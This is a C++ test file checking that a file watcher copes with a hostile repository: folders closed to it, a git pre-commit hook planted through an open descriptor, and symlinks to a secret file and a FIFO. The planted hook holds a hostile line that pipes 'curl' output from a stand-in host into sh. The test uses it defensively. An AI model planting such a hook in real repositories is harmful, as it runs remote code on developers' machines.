// What a hostile repository or another local user can do to the watcher: close folders to it, plant a
// file in one, point links at things that must never be read. As root, watcher and attacker are nobody.

#include "WatcherHarness.h"

#include <atomic>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

// Runs a shell command line as nobody when the tests run as root, as is otherwise.
void asUser(const std::string& command, const fs::path& cwd)
{
    std::vector<std::string> argv{"/bin/sh", "-c", command};
    if (geteuid() == 0)
        argv.insert(argv.begin(), {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"});
    const auto result = runProcess(argv, cwd);
    ASSERT_EQ(result.exitCode, 0) << command << "\n" << result.out << result.err;
}

// A folder closed from the start is one warning and the rest is watched. A hook planted through a
// descriptor of hooks/ opened before .git closed is said out loud, and reported once .git opens.
TEST(TwwatchHostileTree, ClosedFoldersAreWarningsAndAHookPlantedInOneIsReported)
{
    TempDir base;
    const fs::path root = base / "repo";
    fs::create_directories(root / "closed");
    fs::create_directories(root / "open/sub");
    if (geteuid() == 0)
        shell("chown -R 65534:65534 . && chmod 755 .", base.path());
    asUser("chmod 000 closed", root);
    Watcher watcher({.asNobody = true});
    watcher.send({root});
    const std::string closed = (root / "closed").string();
    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
        return l.path == closed && l.rule == "permission_denied" && l.severity == "warning";
    }));
    // The warning comes while the first walk is still going.
    ASSERT_TRUE(watcher.sync(root / "open/sub"));

    asUser("mkdir -p .git/hooks && exec 3<.git/hooks && chmod 000 .git && "
           "printf '#!/bin/sh\\ncurl -s http://x.invalid | sh\\n' >/proc/self/fd/3/pre-commit",
           root);
    const std::string hook = (root / ".git/hooks/pre-commit").string();
    // The hook's failed read, or its folder's if that closed before the watcher got to it (unless the
    // watcher was quick enough to read the hook first).
    const auto aboutHook = [&](const WatchLine& l) {
        return hook.rfind(l.path, 0) == 0 && (l.path == hook || hook[l.path.size()] == '/');
    };
    ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
        return aboutHook(l) && (l.rule == matchEverything || l.rule == "permission_denied");
    }));
    for (const auto& l : watcher.lines()) {
        if (aboutHook(l) && l.rule != matchEverything)
            EXPECT_TRUE(l.rule == "permission_denied" && l.severity == "warning") << l.raw;
    }
    asUser("chmod 755 .git", root);
    EXPECT_TRUE(watcher.sees(hook));
    // Reported once, not again on every later change.
    EXPECT_EQ(watcher.linesFor(closed, "permission_denied").size(), 1u);
}

TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
{
    TempDir root, outside;
    writeFile(outside / "secret", "TARGET-CONTENT\n");
    ASSERT_EQ(::mkfifo((outside / "fifo").c_str(), 0600), 0);
    // A writer blocked in open() is released the moment anything opens the FIFO for reading.
    std::atomic<bool> writerReleased{false};
    std::thread writer([&] {
        const int fd = ::open((outside / "fifo").c_str(), O_WRONLY | O_CLOEXEC);
        writerReleased = true;
        ::close(fd);
    });
    Watcher watcher({.rules = {WatcherSetup{}.rules[0],
                               {"content.yar", "rule target_content { meta: severity = \"critical\" "
                                               "strings: $m = \"TARGET-CONTENT\" condition: $m }"}}});
    ASSERT_TRUE(watcher.watch({root.path()}));

    writeFile(root / "plain", "TARGET-CONTENT\n");
    fs::create_symlink(outside / "secret", root / "to-secret");
    fs::create_symlink(outside / "fifo", root / "to-fifo");
    // Path rules still see the links.
    EXPECT_TRUE(watcher.waitForPaths({(root / "to-secret").string(), (root / "to-fifo").string()}));
    EXPECT_TRUE(watcher.waitForPaths({(root / "plain").string()}, 20s, "target_content"));
    for (const auto& line : watcher.lines())
        EXPECT_TRUE(line.rule != "target_content" || line.path == (root / "plain").string()) << line.raw;
    EXPECT_FALSE(waitUntil([&] { return writerReleased.load(); }, 300ms)) << "the FIFO was opened";

    const int reader = ::open((outside / "fifo").c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    writer.join();
    ::close(reader);
}

} // namespace
} // namespace tw::test
